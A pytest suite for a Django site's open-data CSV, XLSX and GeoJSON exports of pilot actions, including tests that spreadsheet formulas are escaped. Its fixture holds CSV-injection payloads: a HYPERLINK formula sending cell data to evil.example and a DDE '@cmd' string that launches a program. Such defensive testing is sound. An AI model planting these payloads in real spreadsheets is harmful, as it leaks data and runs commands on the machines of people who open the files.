"""Open data: CSV, XLSX and GeoJSON of the public pilot actions, filtered like the list, with stable columns."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import escape_formula
from projects.models import Partnership, PilotAction
from projects.opendata import COLUMN_NAMES, GEOJSON_PLACEMENT_PROPERTIES
from tests.factories import OrganisationFactory, PartnershipFactory, PilotActionFactory
from tests.research import CONFIRMED_WITHOUT_PLACE, confirmed_in_group

pytestmark = pytest.mark.django_db

STABLE_COLUMNS = [
    "code", "title", "acronym", "url", "group", "themes", "borders", "countries", "latitude", "longitude",
    "location_is_approximate", "lead_organisation", "partners", "start_date", "end_date", "eu_contribution_eur",
    "website", "summary", "published_reports", "sources",
]  # fmt: skip


def test_column_names_are_stable():
    """Reusers' scripts depend on these names: new ones go at the end, none is renamed."""
    assert COLUMN_NAMES[: len(STABLE_COLUMNS)] == STABLE_COLUMNS


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_csv_holds_every_public_pilot_action_and_nothing_hidden(client, programme):
    response = client.get(reverse("projects:open-data-csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="resilient-borders-pilot-actions.csv"'
    rows = read_csv(response)
    public = PilotAction.objects.public()
    assert {row["title"] for row in rows} == set(public.values_list("title", flat=True))
    hidden = PilotAction.objects.exclude(pk__in=public.values("pk")).values_list("title", flat=True)
    assert hidden and not set(hidden) & {row["title"] for row in rows}
    first = next(row for row in rows if row["code"] == "CM1")
    assert first["url"].endswith(
        reverse("projects:pilot-action-detail", args=[PilotAction.objects.get(code="CM1").slug])
    )
    assert first["group"] == "crisis-management" and first["sources"].startswith("http")


def test_filters_are_the_lists(client, programme):
    listing = client.get(reverse("projects:pilot-action-list"), {"group": "spatial-planning"})
    listed = {pilot_action.title for pilot_action in listing.context["paginator"].object_list}
    rows = read_csv(client.get(reverse("projects:open-data-csv"), {"group": "spatial-planning"}))
    assert {row["title"] for row in rows} == listed and len(listed) == len(confirmed_in_group("spatial-planning"))
    geojson = client.get(reverse("projects:open-data-geojson"), {"group": "spatial-planning"}).json()
    assert {feature["properties"]["title"] for feature in geojson["features"]} == listed


def test_bad_filter_is_a_400_with_reasons(client, programme):
    response = client.get(reverse("projects:open-data-csv"), {"group": "nope", "colour": "red"})
    assert response.status_code == 400
    assert set(response.json()["errors"]) == {"group"}  # the unknown parameter is ignored, as everywhere


def test_xlsx_has_the_same_columns_and_rows(client, programme):
    response = client.get(reverse("projects:open-data-xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.values)
    assert list(values[0]) == COLUMN_NAMES
    assert len(values) - 1 == PilotAction.objects.public().count()


def test_geojson_is_rfc_7946(client, programme):
    response = client.get(reverse("projects:open-data-geojson"))
    assert response["Content-Type"] == "application/geo+json"
    collection = json.loads(response.content)
    assert collection["type"] == "FeatureCollection"
    assert collection["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    located = [feature for feature in collection["features"] if feature["geometry"]]
    assert located
    longitude, latitude = located[0]["geometry"]["coordinates"]
    assert -30 < longitude < 45 and 30 < latitude < 72
    assert set(located[0]["properties"]) == {*COLUMN_NAMES, *GEOJSON_PLACEMENT_PROPERTIES}


@pytest.mark.parametrize("many_pilot_actions", [20, 200], indirect=True)
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "geojson"])
def test_query_budget_does_not_grow(client, many_pilot_actions, file_format, django_assert_max_num_queries):
    with django_assert_max_num_queries(12):
        response = client.get(reverse(f"projects:open-data-{file_format}"))
    assert response.status_code == 200


def test_open_data_page_documents_columns_and_licence(client, programme, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        page = client.get(reverse("projects:open-data")).content.decode()
    for name in COLUMN_NAMES:
        assert f"<code>{name}</code>" in page
    assert "CC BY 4.0" in page


def test_list_links_to_the_downloads_with_its_filters(client, programme):
    page = client.get(reverse("projects:pilot-action-list"), {"group": "crisis-management"}).content.decode()
    assert f'href="{reverse("projects:open-data-csv")}?group=crisis-management"' in page


# OWASP's CSV injection list: what a spreadsheet program reads as the start of a formula.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.fixture
def formula_pilot_action(db):
    """A public pilot action whose text fields start like spreadsheet formulas, west of Greenwich."""
    pilot_action = PilotActionFactory(
        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        acronym="+SUM(1,2)",
        summary="-2+3 households reached",
        latitude=Decimal("43.2965"),
        longitude=Decimal("-1.4753"),
    )
    lead = OrganisationFactory(name="@cmd|' /C calc'!A0")
    PartnershipFactory(pilot_action=pilot_action, organisation=lead, role=Partnership.Role.LEAD)
    return pilot_action


def test_the_escape_rule_covers_every_formula_start_and_only_text():
    for start in FORMULA_STARTS:
        assert escape_formula(f"{start}1+1") == f"'{start}1+1"
    assert escape_formula("Flood warning = safety") == "Flood warning = safety"
    assert escape_formula("") == ""
    assert escape_formula(-1.4753) == -1.4753
    assert escape_formula("-8.61") == "-8.61", "a number written as text is data, not a formula"
    assert escape_formula("-8.61+1") == "'-8.61+1"
    assert escape_formula(None) is None and escape_formula(True) is True


def test_csv_escapes_formulas_and_keeps_numbers(client, formula_pilot_action):
    (row,) = read_csv(client.get(reverse("projects:open-data-csv")))
    assert row["title"] == "'" + formula_pilot_action.title
    assert row["acronym"] == "'+SUM(1,2)"
    assert row["summary"] == "'-2+3 households reached"
    assert row["lead_organisation"] == row["partners"] == "'@cmd|' /C calc'!A0"
    # A negative longitude is a number, not text: it stays as it is.
    assert row["longitude"] == "-1.4753" and row["latitude"] == "43.2965"


def test_xlsx_holds_text_not_formulas_and_numbers_stay_numbers(client, formula_pilot_action):
    sheet = load_workbook(io.BytesIO(client.get(reverse("projects:open-data-xlsx")).content)).active
    header, row = sheet.iter_rows(max_row=2)
    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
    assert not [cell.coordinate for cell in row if cell.data_type == "f"]
    assert cells["title"].value == "'" + formula_pilot_action.title and cells["title"].data_type == "s"
    assert cells["lead_organisation"].value == "'@cmd|' /C calc'!A0"
    assert cells["longitude"].value == -1.4753 and cells["longitude"].data_type == "n"


def test_geojson_is_not_a_spreadsheet_and_keeps_the_text_as_it_is(client, formula_pilot_action):
    (feature,) = client.get(reverse("projects:open-data-geojson")).json()["features"]
    assert feature["properties"]["title"] == formula_pilot_action.title
    assert feature["properties"]["longitude"] == -1.4753


def test_open_data_page_documents_the_formula_escaping(client, db):
    page = client.get(reverse("projects:open-data")).content.decode()
    assert "formula" in page and "apostrophe" in page


def test_geojson_places_a_pilot_action_without_a_place_on_its_border_and_says_so(client, programme):
    features = {
        feature["properties"]["title"]: feature
        for feature in client.get(reverse("projects:open-data-geojson")).json()["features"]
    }
    assert CONFIRMED_WITHOUT_PLACE
    for record in CONFIRMED_WITHOUT_PLACE:
        feature = features[record["title"]]
        border = PilotAction.objects.get(title=record["title"]).borders.get()
        assert feature["geometry"]["coordinates"] == [border.label_longitude, border.label_latitude]
        assert feature["properties"]["latitude"] is None and feature["properties"]["longitude"] is None
        assert feature["properties"]["location"] == "border"
        assert feature["properties"]["location_label"] == "placed on its border: the exact place is not published"
    located = [
        feature for title, feature in features.items() if title not in {r["title"] for r in CONFIRMED_WITHOUT_PLACE}
    ]
    assert located and all(feature["properties"]["location"] == "exact" for feature in located)
